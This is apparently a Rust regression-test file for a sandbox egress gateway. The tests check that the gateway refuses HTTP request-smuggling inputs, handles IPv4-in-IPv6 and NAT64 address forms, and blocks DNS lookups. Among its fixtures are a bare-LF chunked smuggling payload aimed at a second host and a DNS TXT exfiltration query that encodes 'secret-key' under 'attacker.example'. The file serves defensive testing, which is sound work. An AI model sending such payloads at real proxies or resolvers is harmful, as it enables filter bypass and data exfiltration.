//! Regressions of the 2026-12 adversarial review of the gateway
//! (`shared/research/review-net-2026-12.md`): each test states a property the gateway
//! promises; each failed on 61556e5.

use std::net::IpAddr;

use hickory_proto::op::{Message, MessageType, OpCode, Query, ResponseCode};
use hickory_proto::rr::rdata::TXT;
use hickory_proto::rr::{Name, RData, Record, RecordType};

use crate::classify::Classifier;
use crate::dns;
use crate::http1::{Requests, Step};
use crate::policy::{Action, Direction, DomainName, Flow, Policy, Proto, Rule};
use crate::sniff::Sniffed;

/// A ClientHello naming `name`, with `extra` extensions after the SNI, cut into records of
/// at most `max_record` bytes.
pub(crate) fn hello_with(name: &str, extra: &[(u16, Vec<u8>)], max_record: usize) -> Vec<u8> {
    let mut ext = Vec::new();
    let mut list = vec![0u8];
    list.extend((name.len() as u16).to_be_bytes());
    list.extend(name.as_bytes());
    let mut sni = (list.len() as u16).to_be_bytes().to_vec();
    sni.extend(&list);
    ext.extend([0, 0]);
    ext.extend((sni.len() as u16).to_be_bytes());
    ext.extend(&sni);
    for (t, body) in extra {
        ext.extend(t.to_be_bytes());
        ext.extend((body.len() as u16).to_be_bytes());
        ext.extend(body);
    }
    let mut body = vec![3, 3];
    body.extend([7; 32]);
    body.push(0);
    body.extend([0, 2, 0x13, 0x01]);
    body.extend([1, 0]);
    body.extend((ext.len() as u16).to_be_bytes());
    body.extend(&ext);
    let mut hs = vec![1];
    hs.extend(&(body.len() as u32).to_be_bytes()[1..]);
    hs.extend(&body);
    let mut out = Vec::new();
    for c in hs.chunks(max_record) {
        out.extend([0x16, 3, 1]);
        out.extend((c.len() as u16).to_be_bytes());
        out.extend(c);
    }
    out
}

/// Frames `data` (all of it offered at once) accepting every head; the hosts shown.
fn frame(data: &[u8]) -> Result<Vec<Sniffed>, &'static str> {
    let mut r = Requests::default();
    let (mut hosts, mut at) = (Vec::new(), 0);
    loop {
        match r.step(&data[at..]) {
            Step::Forward(n) => at += n,
            Step::Head { len, host } => {
                hosts.push(host);
                r.accept_head(len);
            }
            Step::NeedMore => return Ok(hosts),
            Step::Bad(why) => return Err(why),
        }
    }
}

/// N4c: nginx ends a chunk-size line at a bare LF, so the filler would be its chunk and
/// the smuggled request a request: the framer refuses the line.
/// A chunked POST for api.example.com whose chunk-size line ends in a bare LF: nginx reads
/// the filler as the chunk and then a request for other.example.
pub(crate) fn bare_lf_smuggle() -> Vec<u8> {
    let smuggled = b"0\r\n\r\nGET /x HTTP/1.1\r\nHost: other.example\r\n\r\n";
    let mut wire = b"POST / HTTP/1.1\r\nHost: api.example.com\r\nTransfer-Encoding: chunked\r\n\r\n".to_vec();
    wire.extend(format!("{:x};x\n", smuggled.len()).bytes());
    wire.extend(vec![b'A'; smuggled.len()]);
    wire.extend(b"\r\n");
    wire.extend(smuggled);
    wire.extend(b"\r\n0\r\n\r\n");
    wire
}

#[test]
fn a_bare_lf_in_a_chunk_extension_is_refused() {
    let r = frame(&bare_lf_smuggle());
    assert!(r.is_err(), "framed as one request for api.example.com only: {r:?}");
}

/// N4c: a header line ended by a bare LF hides `Transfer-Encoding` from a CRLF reader.
#[test]
fn a_bare_lf_in_a_header_line_is_refused() {
    let body = b"0\r\n\r\nGET /x HTTP/1.1\r\nHost: other.example\r\n\r\n";
    let mut wire = format!(
        "POST / HTTP/1.1\r\nHost: api.example.com\r\nX: a\nTransfer-Encoding: chunked\r\nContent-Length: {}\r\n\r\n",
        body.len()
    )
    .into_bytes();
    wire.extend(body);
    assert_eq!(frame(&wire), Err("a bare CR or LF in a request head"));
    let te10 = b"POST / HTTP/1.0\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n";
    assert_eq!(frame(te10), Err("Transfer-Encoding in an HTTP/1.0 request"));
    assert_eq!(frame(b"GET / HTTP/1.1\r\nHost: a\r\n folded\r\n\r\n"), Err("a folded header line"));
}

/// N4a: CONNECT and an Upgrade other than websocket are refused on a flow decided by name;
/// a websocket Upgrade goes opaque only after the server's 101, and not as a second request.
#[test]
fn upgrades_go_opaque_only_when_the_server_switched() {
    assert!(frame(b"CONNECT other:443 HTTP/1.1\r\nHost: api.example.com\r\n\r\n").is_err());
    assert!(frame(b"GET / HTTP/1.1\r\nHost: a\r\nUpgrade: h2c\r\n\r\n").is_err());
    let ws = b"GET / HTTP/1.1\r\nHost: a.example\r\nUpgrade: websocket\r\n\r\n";
    // Ignored by the server: framing goes on, and the next request is checked.
    let mut r = Requests::default();
    let Step::Head { len, .. } = r.step(ws) else { panic!("a head") };
    r.accept_head(len);
    assert_eq!(r.step(ws), Step::Forward(len));
    let next = b"GET /x HTTP/1.1\r\nHost: other.example\r\n\r\n";
    assert_eq!(r.step(next), Step::NeedMore, "held until the server answered");
    r.response(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
    assert!(matches!(r.step(next), Step::Head { host: Sniffed::Http(_), .. }), "framed again");
    // Switched: opaque.
    let mut r = Requests::default();
    let Step::Head { len, .. } = r.step(ws) else { panic!("a head") };
    r.accept_head(len);
    r.step(ws);
    r.response(b"HTTP/1.1 10");
    assert_eq!(r.step(b"\x81\x05hello"), Step::NeedMore, "12 bytes decide, not 11");
    r.response(b"1 Switching Protocols\r\n\r\n");
    assert_eq!(r.step(b"\x81\x05hello"), Step::Forward(7));
    // Not as a later request.
    let two = [&b"GET / HTTP/1.1\r\nHost: a.example\r\n\r\n"[..], ws].concat();
    assert!(frame(&two).is_err());
}

/// N13: a deny CIDR covers every IPv4-in-IPv6 form the classifier sees through.
#[test]
fn a_deny_cidr_also_covers_the_ipv4_in_ipv6_forms() {
    let p = Policy::with_rules(vec![Rule::parse(Action::Deny, "93.184.216.34").unwrap()]).unwrap();
    let c = Classifier::default();
    let mut leaked = vec![];
    for ip in [
        "93.184.216.34",
        "::ffff:93.184.216.34",
        "64:ff9b::93.184.216.34",
        "64:ff9b:1::93.184.216.34",
        "2002:5db8:d822::1",
    ] {
        let f =
            Flow { direction: Direction::Egress, proto: Proto::Tcp, addr: ip.parse().unwrap(), port: 443, names: &[] };
        if p.decide(&c, &f).action == Action::Allow {
            leaked.push(ip);
        }
    }
    assert!(leaked.is_empty(), "`deny 93.184.216.34` does not stop: {leaked:?}");
    // An allow CIDR opens the same forms.
    let p = Policy::parse("allow 93.184.216.0/24\ndefault deny\n").unwrap();
    let f = Flow {
        direction: Direction::Egress,
        proto: Proto::Tcp,
        addr: "64:ff9b::93.184.216.34".parse().unwrap(),
        port: 443,
        names: &[],
    };
    assert_eq!(p.decide(&c, &f).action, Action::Allow);
}

fn query(name: &str, t: RecordType) -> Vec<u8> {
    let mut q = Message::new();
    q.set_id(1).set_message_type(MessageType::Query).set_op_code(OpCode::Query).set_recursion_desired(true);
    q.add_query(Query::query(Name::from_ascii(name).unwrap(), t));
    q.to_vec().unwrap()
}

/// N2: under an allowlist of domain rules, a name no rule could open never leaves the
/// sandbox, and only address records are asked for names that may.
#[test]
fn an_allowlist_policy_does_not_resolve_names_it_can_never_open() {
    let p = Policy::parse("allow tcp/api.example.com:443\ndefault deny\n").unwrap();
    let step = dns::on_query(&p, &query("c2VjcmV0LWtleQ.t.attacker.example.", RecordType::TXT));
    let dns::Step::Answer { bytes, why } = step else { panic!("the name went upstream") };
    assert_eq!(Message::from_vec(&bytes).unwrap().response_code(), ResponseCode::NXDomain, "{why}");
    let step = dns::on_query(&p, &query("c2VjcmV0.t.attacker.example.", RecordType::A));
    assert!(matches!(step, dns::Step::Answer { .. }), "an A lookup of the same name stays home too");
    // The allowed name: A/AAAA go up; TXT is answered here, empty.
    assert!(matches!(dns::on_query(&p, &query("api.example.com.", RecordType::AAAA)), dns::Step::Resolve(_)));
    let dns::Step::Answer { bytes, .. } = dns::on_query(&p, &query("api.example.com.", RecordType::TXT)) else {
        panic!("a TXT lookup went upstream under a domain-only policy")
    };
    let m = Message::from_vec(&bytes).unwrap();
    assert_eq!((m.response_code(), m.answers().len()), (ResponseCode::NoError, 0));
}

/// N9: PTR of a private reverse zone is answered here, never asked upstream, and a TXT
/// answer slipping through is not passed on where only addresses were asked for.
#[test]
fn non_address_records_for_internal_names_are_not_passed_through() {
    let p = Policy::default();
    let dns::Step::Answer { bytes, .. } = dns::on_query(&p, &query("5.0.0.10.in-addr.arpa.", RecordType::PTR)) else {
        panic!("a private reverse zone went upstream")
    };
    assert_eq!(Message::from_vec(&bytes).unwrap().response_code(), ResponseCode::NXDomain);
    for private in [
        "1.168.192.in-addr.arpa.",
        "20.172.in-addr.arpa.",
        "254.169.in-addr.arpa.",
        "1.0.0.127.in-addr.arpa.",
        "d.f.ip6.arpa.",
        "8.e.f.ip6.arpa.",
    ] {
        assert!(matches!(dns::on_query(&p, &query(private, RecordType::PTR)), dns::Step::Answer { .. }), "{private}");
    }
    assert!(matches!(dns::on_query(&p, &query("34.216.184.93.in-addr.arpa.", RecordType::PTR)), dns::Step::Resolve(_)));
    // A TXT record in an answer to an A question is not the guest's.
    let dns::Step::Resolve(gq) = dns::on_query(&p, &query("www.example.com.", RecordType::A)) else { panic!() };
    let up = gq.upstream(9);
    let txt = Record::from_rdata(
        Name::from_ascii("www.example.com.").unwrap(),
        60,
        RData::TXT(TXT::new(vec!["internal".into()])),
    );
    let reply = dns::response_for(&up, ResponseCode::NoError, vec![txt]);
    let (bytes, _) = dns::answer(&gq, &reply, 9, &p, &Classifier::default(), &mut dns::Pins::default(), 0);
    assert!(Message::from_vec(&bytes).unwrap().answers().is_empty());
}

/// N7: `in/` rules are refused when written (published ports are not filtered by peer).
#[test]
fn ingress_rules_are_refused_when_written() {
    let e = Policy::parse("deny in/any\nallow public\n").unwrap_err().to_string();
    assert!(e.contains("in/"), "{e}");
    assert!(Rule::parse(Action::Allow, "in/tcp/10.0.0.0/8:80").is_err());
    assert!(Rule::parse(Action::Allow, "out/tcp/10.0.0.0/8:80").is_ok());
}

/// N12: 0.0.0.0 and :: reach the host's loopback on Linux: they are `loopback`.
#[test]
fn the_unspecified_addresses_are_loopback() {
    let c = Classifier::default();
    for ip in ["0.0.0.0", "::", "::ffff:0.0.0.0"] {
        assert_eq!(c.classify(ip.parse::<IpAddr>().unwrap()), crate::classify::Group::Loopback, "{ip}");
    }
    assert_eq!(c.classify("0.1.2.3".parse::<IpAddr>().unwrap()), crate::classify::Group::Reserved);
}

#[allow(dead_code)]
fn name(s: &str) -> DomainName {
    DomainName::parse(s).unwrap()
}

/// N3: the host's neighbours on its own networks are `host-lan` (public addresses only: a
/// private LAN stays `private`), and the host's own addresses are `host`.
#[test]
fn the_hosts_lans_are_their_own_group() {
    use crate::classify::Group;
    let c = Classifier::with_lans(
        ["2606:4700:1::5".parse::<IpAddr>().unwrap(), "192.168.1.7".parse().unwrap(), "198.18.0.1".parse().unwrap()],
        ["2606:4700:1::5/64".parse().unwrap(), "192.168.1.7/24".parse().unwrap(), "93.184.216.1/24".parse().unwrap()],
    );
    let g = |s: &str| c.classify(s.parse::<IpAddr>().unwrap());
    assert_eq!(g("2606:4700:1::5"), Group::Host);
    assert_eq!(g("2606:4700:1::1"), Group::HostLan, "the router of the host's /64");
    assert_eq!(g("2606:4700:2::1"), Group::Public);
    assert_eq!(g("192.168.1.1"), Group::Private);
    assert_eq!(g("93.184.216.34"), Group::HostLan, "a public IPv4 LAN");
    assert_eq!(g("::ffff:93.184.216.34"), Group::HostLan);
    assert_eq!(Group::parse("host-lan"), Some(Group::HostLan));
    // The default policy denies it.
    let f = Flow {
        direction: Direction::Egress,
        proto: Proto::Tcp,
        addr: "2606:4700:1::1".parse().unwrap(),
        port: 80,
        names: &[],
    };
    assert_eq!(Policy::default().decide(&c, &f).action, Action::Deny);
}

/// N3: the live host view names every address of this machine's interfaces `host` (or
/// what the table puts first: loopback, link-local).
#[test]
fn the_host_view_knows_this_machines_addresses() {
    use crate::classify::Group;
    let c = crate::actor::host_view();
    for a in nix::ifaddrs::getifaddrs().unwrap() {
        let Some(sa) = a.address else { continue };
        let ip = match (sa.as_sockaddr_in(), sa.as_sockaddr_in6()) {
            (Some(v4), _) => IpAddr::V4(v4.ip()),
            (_, Some(v6)) => IpAddr::V6(v6.ip()),
            _ => continue,
        };
        let g = c.classify(ip);
        assert!(matches!(g, Group::Host | Group::Loopback | Group::LinkLocal | Group::Metadata), "{ip} is {g}");
    }
}

/// N17: an ISATAP interface ID under a global prefix is classified by the IPv4 address it
/// names too (the stricter wins).
#[test]
fn isatap_interface_ids_are_classified_by_the_ipv4_they_name() {
    use crate::classify::Group;
    let c = Classifier::default();
    let g = |s: &str| c.classify(s.parse::<IpAddr>().unwrap());
    assert_eq!(g("2606:4700:1:2:0:5efe:10.0.0.1"), Group::Private);
    assert_eq!(g("2606:4700:1:2:200:5efe:127.0.0.1"), Group::Loopback);
    assert_eq!(g("2606:4700:1:2:0:5efe:93.184.216.34"), Group::Public);
    assert_eq!(g("fe80::5efe:93.184.216.34"), Group::LinkLocal, "a link-local prefix stays link-local");
}

/// N3/N13/N17: the operator's extras: a NAT address on no interface is `host`, a public
/// metadata endpoint is `metadata`, and a NAT64 network-specific /96 is decoded like the
/// well-known prefix (both for groups and, through embedded forms, nowhere looser).
#[test]
fn the_operators_extra_addresses_are_classified() {
    use crate::classify::{Extras, Group};
    let extras = Extras {
        host: vec!["203.0.113.7/32".parse().unwrap()],
        metadata: vec!["147.75.0.0/16".parse().unwrap()],
        nat64: vec!["2001:db8:64::/96".parse().unwrap()],
    };
    let c = Classifier::default().with_extras(extras);
    let g = |s: &str| c.classify(s.parse::<IpAddr>().unwrap());
    assert_eq!(g("203.0.113.7"), Group::Host);
    assert_eq!(g("::ffff:203.0.113.7"), Group::Host);
    assert_eq!(g("147.75.1.2"), Group::Metadata);
    assert_eq!(g("2001:db8:64::a9fe:a9fe"), Group::Metadata, "NSP::169.254.169.254");
    assert_eq!(g("2001:db8:64::10.0.0.5"), Group::Private);
    assert_eq!(g("2001:db8:64::93.184.216.34"), Group::Reserved, "the prefix's own range (documentation) is stricter");
    assert!(Extras::parse("", "", "2001:db8::/64").unwrap_err().contains("not an IPv6 /96"));
    assert!(Extras::parse("nonsense", "", "").unwrap_err().contains("MSB_HOST_ADDRS"));
    let e = Extras::parse(" 203.0.113.7 ,10.0.0.0/8", "169.254.170.2", "64:ff9b:1:2::/96").unwrap();
    assert_eq!((e.host.len(), e.metadata.len(), e.nat64.len()), (2, 1, 1));
}
